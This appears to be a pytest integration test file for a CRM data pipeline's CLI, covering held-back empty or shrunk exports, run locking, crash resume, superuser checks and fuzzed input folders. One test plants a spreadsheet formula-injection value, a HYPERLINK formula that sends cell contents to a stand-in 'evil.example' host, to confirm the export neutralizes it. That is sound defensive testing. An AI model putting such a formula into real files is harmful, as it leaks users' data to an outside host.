"""Safety of `crm-pipeline run` under careless use (issue 12, issue 11 item 6), through the real CLI.

- an export that comes back empty, with a header no profile knows, or much smaller than the rows it
  loaded before is held back: its earlier rows stay, the run exits 1 and names the file;
  ``--accept-shrink FILE`` applies a real shrink;
- a run whose every file is rejected exits 1 and says so;
- two runs at once: the second exits 3 naming the holder, the tables equal a single run's; a lock
  file left by a dead process is taken over;
- a run resumed after a crash still shows rows, persons and customers;
- ``export unification-map`` right after ``run RAW`` (no ``--processed``) writes the map;
- a run on a migrated database opens no superuser session (``log_connections``);
- fuzz: export folders with files emptied, garbled, renamed, reordered, re-encoded or cut short
  never lose a row an earlier load brought in beyond what the shrink guard allows.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from load_support import new_database, run_cli

from crm_pipeline.generate.main import generate

pytestmark = pytest.mark.integration

PEOPLE = 150
FILE = "sm_customers.csv"


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("safety_data")
    generate(PEOPLE, out, seed=5)
    return out / "raw"


@pytest.fixture
def raw(generated: Path, tmp_path: Path) -> Path:
    """A private copy of the generated exports (tests change files in it)."""
    target = tmp_path / "data" / "raw"
    shutil.copytree(generated, target)
    return target


@pytest.fixture
def home(tmp_path: Path) -> Path:
    path = tmp_path / "home"
    path.mkdir()
    return path


@pytest.fixture
def url(pg_server_url: str) -> Iterator[str]:
    """An empty database of its own."""
    with new_database(pg_server_url) as database:
        yield database


@pytest.fixture(scope="module")
def loaded_template(
    pg_server_url: str, generated: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """A database after one successful run of the generated exports (made once per module)."""
    home = tmp_path_factory.mktemp("template_home")
    with new_database(pg_server_url) as database:
        done = run_cli(database, home, "run", str(generated), "--processed", str(home / "processed"))
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
        yield database


@pytest.fixture
def loaded(pg_server_url: str, loaded_template: str) -> Iterator[str]:
    """A copy of ``loaded_template``: the exports of ``raw`` were loaded once already."""
    with new_database(pg_server_url, template=loaded_template) as database:
        yield database


def scalar(url: str, query: str, *params: object) -> int:
    with psycopg.connect(url) as conn:
        row = conn.execute(query, params).fetchone()
    assert row is not None
    return int(row[0])


def rows_of(url: str, file: str) -> dict[str, int]:
    """What the database holds of one input file."""
    return {
        table: scalar(url, f"SELECT count(*) FROM {table} WHERE file_name = %s", file)
        for table in ("source_person_records", "customer_source_map")
    }


def run(url: str, home: Path, raw: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return run_cli(url, home, "run", str(raw), *extra, timeout=600)


def loaded_rows(url: str) -> dict[str, int]:
    before = rows_of(url, FILE)
    assert before["source_person_records"] > 0
    return before


def _write_shrunk(path: Path, keep_share: float) -> int:
    """Keep the header and the first ``keep_share`` of the data lines; returns the lines kept."""
    lines = path.read_bytes().splitlines(keepends=True)
    keep = int((len(lines) - 1) * keep_share)
    path.write_bytes(b"".join(lines[: 1 + keep]))
    return keep


def test_zero_byte_export_keeps_its_rows_and_exits_1(loaded: str, home: Path, raw: Path) -> None:
    url = loaded
    before = loaded_rows(url)
    customers = scalar(url, "SELECT count(*) FROM customers")
    (raw / FILE).write_bytes(b"")

    done = run(url, home, raw)

    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    out = done.stdout + done.stderr
    assert FILE in out and "held back" in out
    assert "succeeded with rejected input" in out
    assert rows_of(url, FILE) == before
    assert scalar(url, "SELECT count(*) FROM customers") == customers
    # the rows of the held-back file were matched with the others: every row still has a customer
    assert (
        scalar(
            url,
            "SELECT count(*) FROM customer_source_map m LEFT JOIN customers c"
            " USING (customer_id) WHERE c.customer_id IS NULL",
        )
        == 0
    )


def test_header_changed_export_keeps_its_rows_and_exits_1(loaded: str, home: Path, raw: Path) -> None:
    url = loaded
    before = loaded_rows(url)
    (raw / FILE).write_text("Kunde,Telefon\nZoë Stewart,818-861-9175\n", encoding="utf-8")

    done = run(url, home, raw)

    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    assert FILE in done.stdout + done.stderr
    assert rows_of(url, FILE) == before


def test_a_shrink_beyond_the_share_is_held_back_until_accepted(loaded: str, home: Path, raw: Path) -> None:
    url = loaded
    before = loaded_rows(url)
    kept = _write_shrunk(raw / FILE, 0.5)

    held = run(url, home, raw)
    assert held.returncode == 1, held.stdout[-2000:] + held.stderr[-2000:]
    out = held.stdout + held.stderr
    assert FILE in out and f"{before['source_person_records']:,}" in out
    assert rows_of(url, FILE) == before

    accepted = run(url, home, raw, "--accept-shrink", FILE)
    assert accepted.returncode == 0, accepted.stdout[-2000:] + accepted.stderr[-2000:]
    after = rows_of(url, FILE)
    assert 0 < after["source_person_records"] <= kept < before["source_person_records"]
    assert after["customer_source_map"] == after["source_person_records"]


def test_some_files_rejected_exit_1_and_say_so(loaded: str, home: Path, raw: Path) -> None:
    (raw / "notes.csv").write_text("foo,bar\n1,2\n", encoding="utf-8")
    done = run(loaded, home, raw)
    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    assert "succeeded with rejected input" in done.stdout
    assert "rejected input file(s): notes.csv" in " ".join(done.stderr.split())

    again = run(loaded, home, raw)  # unchanged input: nothing to do, but still not "all good"
    assert again.returncode == 1, again.stdout[-2000:] + again.stderr[-2000:]
    assert "input unchanged" in again.stdout


def test_every_file_rejected_exits_1(url: str, home: Path, tmp_path: Path) -> None:
    raw = tmp_path / "junk"
    raw.mkdir()
    (raw / "a.csv").write_text("foo,bar\n1,2\n", encoding="utf-8")
    (raw / "b.csv").write_bytes(b"")

    done = run(url, home, raw)

    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    assert "succeeded" not in done.stdout + done.stderr
    message = " ".join(done.stderr.split())
    assert "every input file was rejected" in message and "a.csv" in message and "b.csv" in message
    assert "Traceback" not in done.stderr
    assert scalar(url, "SELECT count(*) FROM source_files") == 0


def test_two_runs_at_once_one_exits_3_and_the_tables_equal_one_run(url: str, home: Path, raw: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_") and k != "DATABASE_URL"}
    env.update(DATABASE_URL=url, CRM_HOME=str(home), COLUMNS="200", NO_COLOR="1")
    cmd = [sys.executable, "-m", "crm_pipeline.cli", "run", str(raw)]
    procs = [
        subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    outs = [p.communicate(timeout=600) for p in procs]
    codes = sorted(p.returncode for p in procs)
    assert codes == [0, 3], outs
    loser = outs[[p.returncode for p in procs].index(3)]
    assert "lock" in loser[1] and "pid" in loser[1]

    assert scalar(url, "SELECT count(*) FROM pipeline_runs") == 1
    assert scalar(url, "SELECT count(*) FROM pipeline_stages WHERE status = 'succeeded'") == 4
    summary = json.loads((raw.parent / "processed" / "run_summary.json").read_text())["summary"]
    assert scalar(url, "SELECT count(*) FROM source_person_records") == summary["persons"]
    assert scalar(url, "SELECT count(*) FROM customers") == summary["customers"]
    assert not (raw.parent / "processed" / ".crm-pipeline.lock").exists()


def test_a_lock_file_of_a_dead_process_is_taken_over(url: str, home: Path, raw: Path) -> None:
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    processed = raw.parent / "processed"
    processed.mkdir()
    lock = processed / ".crm-pipeline.lock"
    lock.write_text(
        json.dumps({"run_id": "crashed", "pid": dead.pid, "host": socket.gethostname(), "since": "x"})
    )

    done = run(url, home, raw)

    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    assert not lock.exists()


def test_a_lock_file_of_a_live_process_stops_the_run_with_exit_3(url: str, home: Path, raw: Path) -> None:
    processed = raw.parent / "processed"
    processed.mkdir()
    lock = processed / ".crm-pipeline.lock"
    holder = {"run_id": "other", "pid": os.getpid(), "host": socket.gethostname(), "since": "now"}
    lock.write_text(json.dumps(holder))

    done = run(url, home, raw)

    assert done.returncode == 3, done.stdout[-2000:] + done.stderr[-2000:]
    assert f"pid {os.getpid()}" in done.stderr
    assert json.loads(lock.read_text()) == holder  # the holder's lock is left alone


def test_resumed_run_summary_shows_rows_persons_and_customers(url: str, home: Path, raw: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_") and k != "DATABASE_URL"}
    env.update(DATABASE_URL=url, CRM_HOME=str(home))
    proc = subprocess.Popen(
        [sys.executable, "-m", "crm_pipeline.cli", "run", str(raw)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 300
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            try:
                if scalar(url, "SELECT count(*) FROM pipeline_stages WHERE stage = 'match'"):
                    break
            except psycopg.errors.UndefinedTable:
                pass
            time.sleep(0.05)
        assert proc.poll() is None, "the run ended before matching started"
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(timeout=30)

    resumed = run(url, home, raw, "--json")
    assert resumed.returncode == 0, resumed.stderr[-2000:]
    result = json.loads(resumed.stdout)
    assert result["resumed"] is True
    head = result["summary"]
    assert head["rows_in"] == scalar(url, "SELECT sum(rows_in) FROM source_files")
    assert head["persons"] == scalar(url, "SELECT count(*) FROM source_person_records")
    assert head["customers"] == scalar(url, "SELECT count(*) FROM customers")


def test_export_maps_right_after_run_without_processed(loaded: str, home: Path) -> None:
    """No ``--processed``: the maps come from the database (what the last run loaded), with cells a
    spreadsheet would run as formulas neutralized."""
    url = loaded
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with psycopg.connect(url) as conn:
        conn.execute(
            "UPDATE customer_source_map SET record_id = %s"
            " WHERE uid = (SELECT min(uid) FROM customer_source_map)",
            (evil,),
        )
        conn.execute(
            "UPDATE source_job_records SET record_id = %s"
            " WHERE uid = (SELECT min(uid) FROM source_job_records)",
            ("-2+3",),
        )
    out = home / "m.csv"
    done = run_cli(url, home, "export", "unification-map", "--out", str(out))
    assert done.returncode == 0, done.stderr[-2000:]
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["file", "record_id", "customer_id"]
    assert len(rows) - 1 == scalar(url, "SELECT count(*) FROM customer_source_map")
    assert ["'" + evil] == [r[1] for r in rows if evil in r[1]]

    jobs = home / "j.csv"
    done = run_cli(url, home, "export", "job-map", "--out", str(jobs))
    assert done.returncode == 0, done.stderr[-2000:]
    with jobs.open(newline="", encoding="utf-8") as fh:
        job_rows = list(csv.reader(fh))
    assert len(job_rows) - 1 == scalar(url, "SELECT count(*) FROM job_source_map")
    assert "'-2+3" in [r[1] for r in job_rows]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in job_rows + rows for cell in r)


# ------------------------------------------------------------------------- no superuser sessions


def _server_log(conn: psycopg.Connection[tuple[object, ...]]) -> Path | None:
    """The server's log file when this test can read it: the logging collector's file, the embedded
    server's ``PGDATA/log``, or a Debian cluster's ``/var/log/postgresql/postgresql-<ver>-<name>.log``."""
    data = Path(str(_one(conn, "SHOW data_directory")))
    current = _one(conn, "SELECT pg_current_logfile()")
    major = str(_one(conn, "SHOW server_version_num"))[:-4]
    candidates = [
        data / str(current) if current else None,
        data / "log",
        Path("/var/log/postgresql") / f"postgresql-{major}-{data.name}.log",
    ]
    for candidate in candidates:
        if candidate is not None and candidate.is_file() and os.access(candidate, os.R_OK):
            return candidate
    return None


def _one(conn: psycopg.Connection[tuple[object, ...]], query: str) -> object:
    row = conn.execute(query).fetchone()
    return row[0] if row else None


def test_a_run_on_a_migrated_database_opens_no_superuser_session(
    pg_server_url: str, url: str, home: Path, raw: Path
) -> None:
    from crm_pipeline.db import migrate

    migrate(url)
    database = url.rsplit("/", 1)[-1].split("?")[0]
    with psycopg.connect(pg_server_url, autocommit=True) as conn:
        log_file = _server_log(conn)
        if log_file is None:
            pytest.skip("the server's log file is not readable from here")
        conn.execute("ALTER SYSTEM SET log_connections = on")
        conn.execute("SELECT pg_reload_conf()")
    time.sleep(0.5)
    offset = log_file.stat().st_size
    try:
        done = run(url, home, raw)
    finally:
        with psycopg.connect(pg_server_url, autocommit=True) as conn:
            conn.execute("ALTER SYSTEM RESET log_connections")
            conn.execute("SELECT pg_reload_conf()")
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    with log_file.open("rb") as fh:
        fh.seek(offset)
        lines = [ln for ln in fh.read().decode(errors="replace").splitlines() if f"database={database}" in ln]
    authorized = [ln for ln in lines if "connection authorized" in ln]
    assert any("user=crm_loader" in ln for ln in authorized), lines[:20]
    superuser = [ln for ln in authorized if "user=crm_loader" not in ln]
    assert superuser == []


# --------------------------------------------------------------------------- fuzz: no earlier row lost

DESTROY = ("zero_bytes", "random_bytes", "renamed_header")
"""Ways an export comes back that leave nothing to load: the file is rejected and held back."""
KEEP = ("unchanged", "shuffled_columns", "cp1252", "truncated")
"""Ways that keep the rows, or part of them (truncated: a shrink the guard decides on)."""


def _mangle(path: Path, how: str, data: st.DataObject) -> float | None:
    """Rewrite one export as ``how`` says; returns the share of data lines kept when truncated."""
    raw = path.read_bytes()
    try:
        text, encoding = raw.decode("utf-8-sig"), "utf-8"
    except UnicodeDecodeError:  # the old CRM's exports are Windows-1252
        text, encoding = raw.decode("cp1252"), "cp1252"
    lines = text.splitlines(keepends=True)
    if how == "zero_bytes":
        path.write_bytes(b"")
    elif how == "random_bytes":
        path.write_bytes(data.draw(st.binary(min_size=1, max_size=2_000), label="bytes"))
    elif how == "renamed_header":
        width = len(next(csv.reader(lines[:1])))
        word = st.text("abcxyz_", min_size=1, max_size=8)
        words = data.draw(st.lists(word, min_size=width, max_size=width), label="header")
        header = ",".join(f"{w}{i}" for i, w in enumerate(words)) + "\n"
        path.write_bytes((header + "".join(lines[1:])).encode(encoding))
    elif how == "shuffled_columns":
        rows = list(csv.reader(lines))
        order = data.draw(st.permutations(range(len(rows[0]))), label="order")
        with path.open("w", newline="", encoding=encoding) as fh:
            csv.writer(fh).writerows([[r[i] if i < len(r) else "" for i in order] for r in rows])
    elif how == "cp1252":
        path.write_bytes("".join(lines).encode("cp1252", errors="replace"))
    elif how == "truncated":
        share = data.draw(st.floats(0.0, 1.0), label="share kept")
        keep = int((len(lines) - 1) * share)
        path.write_bytes("".join(lines[: 1 + keep]).encode(encoding))
        return keep / max(len(lines) - 1, 1)
    return None


@settings(
    max_examples=4,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_fuzzed_export_folders_never_lose_a_row_of_an_earlier_load(
    data: st.DataObject, pg_server_url: str, loaded_template: str, generated: Path
) -> None:
    """Whatever comes back in the folder: no traceback, exit 0 or 1, and every source keeps at least
    the rows the shrink guard promises (all of them when its export is unusable)."""
    names = sorted(p.name for p in generated.iterdir())
    plan = data.draw(
        st.dictionaries(st.sampled_from(names), st.sampled_from(DESTROY + KEEP), min_size=1, max_size=3),
        label="plan",
    )
    with tempfile.TemporaryDirectory() as tmp, new_database(pg_server_url, template=loaded_template) as url:
        raw = Path(tmp) / "data" / "raw"
        shutil.copytree(generated, raw)
        before = {name: rows_of(url, name)["source_person_records"] for name in names}
        kept = {name: _mangle(raw / name, how, data) for name, how in plan.items()}
        home = Path(tmp) / "home"
        home.mkdir()

        done = run(url, home, raw)

        assert "Traceback" not in done.stdout + done.stderr, done.stderr[-3000:]
        assert done.returncode in (0, 1), done.stdout[-2000:] + done.stderr[-2000:]
        after = {name: rows_of(url, name)["source_person_records"] for name in names}
        for name in names:
            how = plan.get(name, "unchanged")
            if how in DESTROY or (how == "truncated" and (kept[name] or 0) < 0.8):
                assert after[name] == before[name], (name, how, kept.get(name), done.stderr[-2000:])
            else:
                assert after[name] >= 0.8 * before[name], (name, how, done.stderr[-2000:])
        if any(how in DESTROY for how in plan.values()):
            assert done.returncode == 1  # a held-back or rejected export is reported
